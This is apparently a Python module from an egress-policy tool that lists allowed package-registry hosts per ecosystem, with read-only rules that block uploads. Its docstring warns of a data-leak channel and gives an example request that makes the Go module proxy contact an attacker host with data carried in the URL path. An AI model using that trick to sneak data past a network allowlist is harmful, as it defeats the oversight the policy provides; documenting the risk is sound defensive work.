"""Package registries on demand: the hosts each ecosystem's standard client needs.

A preset is a name for the hosts one client talks to when it installs packages: the
index and the hosts its files are served from. `include: NAME` in a policy file, `start
--allow-preset NAME`, `allow NAME --preset NAME` and config `allowed_presets` all give
the same rules (netpolicy.rules.expand): GET and HEAD on these hosts, which the
companion decrypts, so the uploads the registries take on the same hosts (twine, npm
publish, cargo publish, gem push) are refused. A session records its presets by name.
Pure data; docs/environment.md lists each host with the client documentation that
names it.

A preset is still a channel out through the URL of a GET: the go preset needs no
account at all, since proxy.golang.org fetches any module path it is asked for (a
request for /attacker.example/DATA/@v/list makes it contact attacker.example, the data
in the path). Allow one only for a session you would let send data to the public.
"""

from __future__ import annotations

from collections.abc import Iterable

# name -> hosts. Each host is named by its client's documentation (README, "Your
# project's environment"). The write side is on the same hosts (see above).
PRESETS: dict[str, tuple[str, ...]] = {
    # pip and uv: the index (PEP 503/691 at pypi.org/simple) and its file host
    "python": ("pypi.org", "files.pythonhosted.org"),
    # npm, pnpm (registry.npmjs.org) and yarn 1 (registry.yarnpkg.com, an alias of it)
    "node": ("registry.npmjs.org", "registry.yarnpkg.com"),
    # cargo: the sparse index, the crate files, and crates.io's API (the git index is
    # not needed since cargo 1.70, whose default is the sparse protocol)
    "rust": ("index.crates.io", "static.crates.io", "crates.io"),
    # go: the module proxy and the checksum database (GOPROXY, GOSUMDB defaults)
    "go": ("proxy.golang.org", "sum.golang.org"),
    # maven and gradle: Maven Central, the Gradle Plugin Portal and its distributions
    "java": (
        "repo.maven.apache.org",
        "repo1.maven.org",
        "plugins.gradle.org",
        "plugins-artifacts.gradle.org",
        "services.gradle.org",
        "downloads.gradle.org",
    ),
    # gem and bundler: rubygems.org, its compact index, and the gem files' CDN
    "ruby": ("rubygems.org", "index.rubygems.org"),
}

HINT = "presets: " + ", ".join(PRESETS)


def check(name: str) -> str:
    """A preset's name, in canonical form; ValueError for one that does not exist."""
    key = str(name).strip().lower()
    if key not in PRESETS:
        raise ValueError(f"{name!r} is not a preset ({HINT})")
    return key


def hosts(names: Iterable[str]) -> list[str]:
    """The hosts of the presets `names` (checked), in order, without repeats."""
    out: list[str] = []
    for name in names:
        out += [h for h in PRESETS[check(name)] if h not in out]
    return out
